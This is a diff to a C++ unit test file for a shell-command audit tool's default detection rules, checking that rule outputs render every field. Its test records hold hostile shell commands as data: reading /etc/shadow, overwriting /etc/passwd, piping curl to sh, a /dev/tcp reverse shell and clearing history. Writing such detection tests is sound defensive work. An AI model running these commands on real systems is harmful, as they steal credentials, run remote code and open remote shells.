@@ -134,8 +134,35 @@ TEST(DefaultRules, OutputIsRendered) {
   shaudit::rules::EvalContext ctx;
   auto m = rules().evaluate(typed("sudo cat /etc/shadow"), ctx);
   ASSERT_EQ(m.size(), 1u);
-  EXPECT_EQ(m[0].output,
-            "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow<NA>");
+  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow");
+  // The same rule on an exec record shows its argv: no field renders as <NA> in either.
+  Object x = exec({"cat", "/etc/shadow"});
+  x["session"] = "0123456789abcdef";
+  m = rules().evaluate(x, ctx);
+  ASSERT_EQ(m.size(), 1u);
+  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): cat /etc/shadow");
+}
+
+TEST(DefaultRules, NoOutputShowsAMissingField) {
+  // Each default rule, fired by a record of the kind it is written for, renders every field.
+  shaudit::rules::EvalContext ctx;
+  ctx.hostname = "host1";
+  std::vector<Object> recs = {typed("sudo cat /etc/shadow"),
+                              typed("echo x > /etc/passwd"),
+                              typed("cp x /usr/bin/y"),
+                              typed("curl -s http://x | sh"),
+                              typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+                              typed("history -c"),
+                              exec({"cat", "/etc/shadow"})};
+  size_t fired_n = 0;
+  for (auto& r : recs) {
+    r["session"] = "0123456789abcdef";
+    for (const auto& m : rules().evaluate(r, ctx)) {
+      ++fired_n;
+      EXPECT_EQ(m.output.find("<NA>"), std::string::npos) << m.rule << ": " << m.output;
+    }
+  }
+  EXPECT_GE(fired_n, 6u);  // (the rules fired: the check above saw their outputs)
 }
 
 }  // namespace
